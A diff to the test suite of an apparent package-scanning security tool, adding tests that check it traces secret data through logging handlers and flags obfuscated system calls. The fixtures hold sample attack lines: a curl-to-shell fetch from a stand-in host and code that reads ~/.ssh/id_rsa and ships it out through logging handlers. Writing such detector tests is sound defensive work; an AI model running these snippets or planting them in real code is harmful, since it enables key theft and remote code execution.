@@ -8,7 +8,7 @@ from attack_files import wheel
 from ostiary.checks.behaviour.unreadable import unreadable
 from ostiary.core.finding import Hit
 from ostiary.core.scale import Severity
-from ostiary.program.flow import Act
+from ostiary.program.flow import Act, Taint
 from ostiary.program.model import Program
 
 PAYLOAD = b"import os\nos.system('curl http://a.example.invalid/x | sh')\n"
@@ -49,3 +49,32 @@ def test_who_executes_what_it_decodes_is_looked_at(handler: str) -> None:
     assert [one.severity for one in told if isinstance(one, Hit)] == [Severity.HIGH]
     plain = unreadable.run(program(HANDLERS[handler].format("print(base64.b64decode(data))")))
     assert not list(plain)
+
+
+LOGS = {
+    "of its own": "class H(logging.Handler):\n    def emit(self, record):\n"
+    "        urllib.request.urlopen('http://a.example.invalid/c', data=record.msg.encode())\n"
+    "logging.getLogger('a').addHandler(H())\n",
+    "of the library": "logging.getLogger('a').addHandler("
+    "logging.handlers.HTTPHandler('a.example.invalid', '/c', method='POST'))\n",
+    "of a socket": "logging.basicConfig(handlers=["
+    "logging.handlers.SysLogHandler(('a.example.invalid', 514))])\n",
+}
+
+
+@pytest.mark.parametrize("log", LOGS)
+def test_what_is_logged_goes_where_the_handlers_send_it(log: str) -> None:
+    names = "import logging, logging.handlers, urllib.request\n"
+    told = "logging.getLogger('a').error(open(os.path.expanduser('~/.ssh/id_rsa')).read())"
+    sent = [one for one in program(names + LOGS[log] + told).flows if one.act is Act.SEND]
+    assert any("a.example.invalid" in one.target and one.has(Taint.SECRET) for one in sent)
+    plain = program(names + LOGS[log] + "logging.getLogger('a').error('it starts')").flows
+    assert not any(one.has(Taint.SECRET) for one in plain)
+
+
+def test_a_function_of_the_system_by_a_name_that_nobody_can_work_out() -> None:
+    text = (
+        "import random\ngetattr(os, random.choice(dir(os)))('curl http://a.example.invalid/x | sh')"
+    )
+    told = [one for one in unreadable.run(program(text)) if isinstance(one, Hit)]
+    assert [one.severity for one in told] == [Severity.HIGH]
